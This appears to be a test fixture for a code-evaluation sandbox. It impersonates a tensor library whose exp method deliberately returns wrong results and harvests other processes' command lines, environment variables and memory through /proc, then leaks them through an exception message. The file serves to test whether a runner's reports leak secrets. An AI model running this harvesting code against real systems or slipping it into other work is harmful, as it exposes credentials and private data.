"""Reads the runner's command line, environment and memory through /proc and reports what it got in
the error message of exp (a secret there would leak into the report)."""
import json
import os
import signal
import sys

import tiny
from tiny import *  # noqa: F401,F403

# What the attacker knows (the test writes it beside this module): the worst case, full knowledge of
# the trusted checkout, the venv and the runner's output paths.
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "targets.json")) as _f:
    TARGETS = json.load(_f)


def _try(action, *args):
    try:
        return action(*args)
    except BaseException as exc:  # noqa: BLE001 — an attacker shrugs and tries the next thing
        return f"{type(exc).__name__}: {exc}"


def _write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return "written"


class _Wrong(tiny.Tensor):
    def exp(self):
        attack()
        return tiny.Tensor(self.data + 1.0)  # wrong on purpose: an honest report says exp FAILED


def tensor(data, dtype=None, requires_grad=False):
    return _Wrong(tiny.tensor(data, dtype=dtype).data, requires_grad=requires_grad)


def _read(path, size=4096):
    with open(path, "rb") as f:
        return f.read(size).replace(b"\0", b" ").decode("latin-1")


def attack():
    loot = []
    for pid in {os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]}:
        for what in ("cmdline", "environ", "mem"):
            loot.append(f"{pid}/{what}: {_try(_read, f'/proc/{pid}/{what}')}")
    raise ValueError("LOOT " + " || ".join(loot))
